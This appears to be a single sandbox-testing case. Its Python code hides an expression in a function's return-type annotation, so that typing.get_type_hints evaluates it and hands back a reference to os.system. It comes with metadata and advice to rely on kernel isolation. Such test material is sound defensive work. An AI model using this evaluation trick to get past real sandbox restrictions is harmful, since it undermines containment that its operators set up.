# title: Hide code in a type hint
# tries: Writes code as text into an annotation and lets typing evaluate it.
# impact: Integrity
# proof: returned
# host: run
# allowed: policy off
# advice: Count on the kernel, not on rules about Python: with isolation around the process this gains nothing.


def attempt(host):
    import typing

    def harmless():
        pass

    harmless.__annotations__["return"] = "type('Found', (), {'system': __import__('os').system})"
    return f"{typing.get_type_hints(harmless)['return'].system} by a type hint"
